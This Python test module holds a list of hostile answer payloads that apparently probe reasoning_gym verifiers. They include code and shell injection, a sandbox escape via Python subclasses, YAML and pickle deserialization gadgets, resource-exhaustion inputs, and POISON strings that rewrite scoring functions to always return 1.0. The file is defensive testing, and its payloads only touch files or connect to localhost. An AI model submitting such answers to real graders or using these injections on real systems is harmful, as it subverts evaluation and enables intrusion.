"""Hostile answers. Whatever runs one of them creates a file that the campaign waits for, or calls a port it listens on.

None does harm: each touches one file in the case's own folder, or connects to this machine, or asks for more time or
memory than a verifier has.
"""

from __future__ import annotations

RUN = "__import__('os').system('touch {file}')"
OPEN = "open('{file}','w').close()"
CALL = "__import__('socket').create_connection(('127.0.0.1',{port}),1)"
CHAIN = (
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0]"
    ".__init__.__globals__['system']('touch {file}')"
)
POISON = (
    "[setattr(c,'score_answer',lambda *a,**k:1.0) for c,_ in __import__('reasoning_gym').factory.DATASETS.values()]"
)
POISON_ALL = (
    "exec(\"import sys\\nfor m in list(sys.modules.values()):\\n for n in ('verify','score_answer','exact_match',"
    "'score','are_same_words'):\\n  hasattr(m,n) and setattr(m,n,lambda *a,**k:1.0)\")"
)

PAYLOADS: tuple[str, ...] = (
    RUN,
    OPEN,
    CALL,
    CHAIN,
    f"[{RUN}]",
    f"[[{RUN}, 1], [2, 3]]",
    f"({RUN},)",
    f"{{{{'a': {RUN}}}}}",
    f"{{{{{RUN}: 1}}}}",
    f"1 + {RUN}",
    f"2*x + {RUN}",
    f"x**2 + ({OPEN} or 0)",
    f"(lambda: {RUN})()",
    f"[{RUN} for _ in [0]]",
    f"[y for y in [0] if {OPEN} or 1]",
    f"f'{{{{{RUN}}}}}'",
    f'f"{{{{{OPEN}}}}}"',
    f'eval("{RUN}")',
    f'exec("{RUN}")',
    f'[eval("{RUN}")]',
    f'eval(compile("{RUN}","a","eval"))',
    f'__builtins__["eval"]("{RUN}")',
    "getattr(__import__('os'),'sys'+'tem')('touch {file}')",
    "__import__('subprocess').run(['touch','{file}'])",
    "__import__('pathlib').Path('{file}').touch()",
    "[__import__('os').fork() or __import__('pathlib').Path('{file}').touch()]",
    "__import__('ctypes').CDLL(None).system(b'touch {file}')",
    "[__import__('os').mknod('{file}')]",
    "[__import__('os').mkdir('{file}')]",
    "[__import__('os').symlink('/','{file}')]",
    "__import__('urllib.request').request.urlopen('http://127.0.0.1:{port}/')",
    f"[{CALL}]",
    "Symbol('x').__class__.__init__.__globals__['__builtins__']['open']('{file}','w')",
    f'sympify("{RUN}")',
    f'lambdify((), "{RUN}")()',
    "{{0.__class__.__init__.__globals__}}",
    '\\input{{|"touch {file}"}} \\immediate\\write18{{touch {file}}}',
    "\\boxed{{" + RUN + "}}",
    "\\text{{" + RUN + "}} + \\frac{{1}}{{" + OPEN + "}}",
    "!!python/object/apply:os.system ['touch {file}']",
    "cos\nsystem\n(S'touch {file}'\ntR.",
    "$(touch {file})",
    "`touch {file}`",
    "'; touch {file}; '",
    "'); import os; os.system('touch {file}'); ('",
    "\n".join(("import os", "os.system('touch {file}')", "print(1)")),
    "```python\nopen('{file}','w')\n```",
    POISON,
    f"[{POISON}]",
    POISON_ALL,
    f"[{POISON_ALL}]",
    "9**9**9",
    "[9**9**9]",
    "10**10**10 + x",
    "'a'*10**10",
    "[0]*10**10",
    "factorial(10**9)",
    "(" * 5000 + "1" + ")" * 5000,
    "[" * 5000 + "]" * 5000,
    "-" * 20000 + "1",
    "1" * 100_000,
    "\ud800",
    "\x00",
    "<answer>" * 2000,
)
"""Texts with places for `file` and `port`."""


def fill(payload: str, *, file: str, port: int) -> str:
    """The payload with its file and its port."""
    return payload.replace("{file}", file).replace("{port}", str(port)).replace("{{", "{").replace("}}", "}")
